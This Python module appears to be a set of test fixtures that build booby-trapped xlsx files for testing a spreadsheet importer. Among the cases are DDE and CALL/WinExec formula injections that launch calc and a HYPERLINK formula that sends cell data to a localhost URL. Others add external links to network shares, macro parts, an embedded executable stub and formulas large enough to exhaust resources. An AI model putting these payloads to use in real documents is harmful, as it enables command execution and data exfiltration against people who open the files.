"""Traps of the formulas and links: calls out, macros, DDE, shared formulas without end."""

from __future__ import annotations

from collections.abc import Callable

from tools.hostiles.modele import ACTIONS, WITNESS, Trap, cas

_WITNESS = (ACTIONS, "Q6", WITNESS)
_BOOK = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _formula(texte: str, valeur: object = "x", *, cellule: str = "Q6") -> Callable[[], bytes]:
    return lambda: Trap().formule(ACTIONS, cellule, texte, valeur).octets()


def _link(part: str, target: str | None = None) -> Callable[[], bytes]:
    def make() -> bytes:
        trap = Trap().temoin().put("xl/externalLinks/externalLink1.xml", part)
        if target is not None:
            trap.put(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
                f'Target="{target}" TargetMode="External"/></Relationships>',
            )
        return trap.relation("externalLink", "externalLinks/externalLink1.xml").octets()

    return make


def _shared(reference: str, count: int = 0) -> Callable[[], bytes]:
    cells = "".join(
        f'<row r="{n}"><c r="A{n}"><f t="shared" si="7"/><v>1</v></c></row>'
        for n in range(901, 901 + count)
    )
    first = (
        f'<row r="900"><c r="A900"><f t="shared" ref="{reference}" si="7">B900+1</f>'
        "<v>1</v></c></row>"
    )
    return lambda: Trap().temoin().ligne("Listes", first + cells).comprime()


def _part(name: str, content: bytes, kind: str = "") -> Callable[[], bytes]:
    def make() -> bytes:
        trap = Trap().temoin().put(name, content)
        if kind:
            trap.relation(kind, "/" + name)
        return trap.octets()

    return make


def _names(count: int) -> bytes:
    names = "".join(f'<definedName name="n{n}">$A$1</definedName>' for n in range(count))
    trap = Trap().temoin()
    if b"</definedNames>" in trap.membres["xl/workbook.xml"]:
        return trap.texte(
            "xl/workbook.xml", "</definedNames>", names + "</definedNames>"
        ).comprime()
    defined = f"</sheets><definedNames>{names}</definedNames>"
    return trap.texte("xl/workbook.xml", "</sheets>", defined).comprime()


_F = "formule"
cas(_F, "dde", "un appel DDE dans une cellule", _formula("cmd|'/c calc.exe'!A0"))
cas(
    _F,
    "webservice",
    "une requête à un site",
    _formula('_xlfn.WEBSERVICE("http://127.0.0.1:18999/")'),
)
cas(_F, "rtd", "un serveur de données", _formula('RTD("piege.serveur",,"x")'))
cas(_F, "image", "une image sur un site", _formula('_xlfn.IMAGE("http://127.0.0.1:18999/a.png")'))
cas(_F, "call", "un appel de bibliothèque", _formula('CALL("kernel32","WinExec","JC","calc")'))
cas(_F, "hyperlien", "un lien qui emporte la donnée",
    _formula('HYPERLINK("http://127.0.0.1:18999/?"&A6,"Cliquez ici")'))  # fmt: skip
cas(_F, "externe", "une valeur d'un autre fichier", _formula("[1]Feuil1!A1"))
cas(_F, "circulaire", "une formule qui se lit elle-même", _formula("Q6"))
cas(_F, "longue", "une formule de 500 000 caractères", _formula("1" + "+1" * 250_000, 1.0))
cas(_F, "geante", "une formule de 2 Mio", _formula("1" + "+1" * (1 << 20), 1.0))
cas(_F, "parentheses", "cinq mille parenthèses", _formula("(" * 5000 + "1" + ")" * 5000, 1.0))
cas(_F, "jamais-calculee", "une saisie jamais calculée", _formula("A6&B6", None))
cas(_F, "erreur-nom", "une fonction inconnue", _formula("PIEGE()", "#NAME?"))
cas(_F, "erreur-debord", "une erreur récente d'Excel", _formula("A6:A9", "#SPILL!"))
cas(_F, "taux-truque", "un taux calculé remplacé par une formule menteuse",
    lambda: Trap().formule("Indicateurs", "L6", "1", 1.0).octets())  # fmt: skip
cas(_F, "partagee-feuille", "une formule partagée sur toute la feuille",
    _shared("A1:XFD1048576", 3), temoin=_WITNESS)  # fmt: skip
cas(_F, "partagee-orpheline", "une formule partagée sans modèle",
    lambda: Trap().temoin().ligne("Listes", '<row r="900"><c r="A900"><f t="shared" si="99"/>'
                                   "<v>1</v></c></row>").octets(), temoin=_WITNESS)  # fmt: skip
cas(_F, "partagee-20000", "une formule partagée par vingt mille cellules",
    _shared("A900:A20900", 20_000), temoin=_WITNESS)  # fmt: skip
cas(_F, "matrice-feuille", "une formule matricielle sur toute la feuille",
    lambda: Trap().temoin().ligne("Listes", '<row r="900"><c r="A900"><f t="array" '
                                   'ref="A1:XFD1048576">1</f><v>1</v></c></row>').octets(),
    temoin=_WITNESS)  # fmt: skip
cas(_F, "noms", "cent vingt mille noms définis", lambda: _names(120_000))
cas(_F, "nom-externe", "un nom défini qui appelle un programme",
    lambda: Trap().temoin().texte(
        "xl/workbook.xml", "<definedName ", "<definedName name=\"piege\">cmd|'/c calc'!A0"
        "</definedName><definedName ").octets(), temoin=_WITNESS)  # fmt: skip
cas(_F, "lien-site", "un lien vers un site",
    _link(f'<externalLink {_BOOK}><externalBook xmlns:r="{_REL}" r:id="rId1"/></externalLink>',
          "http://127.0.0.1:18999/x.xlsx"))  # fmt: skip
cas(_F, "lien-partage", "un lien vers un partage réseau",
    _link(f'<externalLink {_BOOK}><externalBook xmlns:r="{_REL}" r:id="rId1"/></externalLink>',
          "file:///\\\\127.0.0.1\\partage\\x.xlsx"))  # fmt: skip
cas(_F, "lien-dde", "un lien DDE", _link(
    f'<externalLink {_BOOK}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink>'
    "</externalLink>"))  # fmt: skip
cas(_F, "lien-casse", "un lien illisible", _link("<externalLink"), temoin=_WITNESS)
cas(_F, "vba", "des macros", _part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0", "vbaProject"))
cas(_F, "vba-cachees", "des macros sans relation", _part("xl/piege/vbaProject.bin", b"x"))
cas(_F, "macro-excel4", "une feuille de macros Excel 4", _part(
    "xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/'
    b'excel/2006/main"/>', "xlMacrosheet"))  # fmt: skip
cas(_F, "connexion", "une connexion à une base", _part(
    "xl/connections.xml", f'<connections {_BOOK}><connection id="1" name="x" type="5"><webPr '
    'url="http://127.0.0.1:18999/"/></connection></connections>'.encode(), "connections"),
    temoin=_WITNESS)  # fmt: skip
cas(_F, "objet", "un programme incorporé", _part(
    "xl/embeddings/oleObject1.bin", b"MZ" + b"\0" * 500, "oleObject"), temoin=_WITNESS)  # fmt: skip
cas(_F, "activex", "un contrôle ActiveX", _part(
    "xl/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='urn:x'/>"), temoin=_WITNESS)  # fmt: skip
